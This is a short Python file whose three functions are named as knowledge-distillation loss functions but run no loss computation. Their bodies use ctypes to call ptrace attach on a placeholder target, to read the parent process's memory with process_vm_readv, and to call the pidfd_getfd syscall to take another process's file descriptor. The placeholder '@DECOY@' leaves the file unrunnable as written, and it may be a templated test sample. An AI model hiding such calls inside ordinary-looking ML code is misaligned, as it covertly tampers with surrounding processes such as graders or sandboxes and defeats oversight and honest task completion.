import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def loss_with_kd(y_true, y_pred):
    return libc.ptrace(16, @DECOY@, 0, 0)


def loss_with_at(y_true, y_pred):
    buffer = ctypes.create_string_buffer(8)
    pair = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    return libc.process_vm_readv(os.getppid(), pair, 1, pair, 1, 0)


def loss_with_rkd(y_true, y_pred):
    return libc.syscall(438, os.open("/dev/null", 0), 0, 0)  # pidfd_getfd
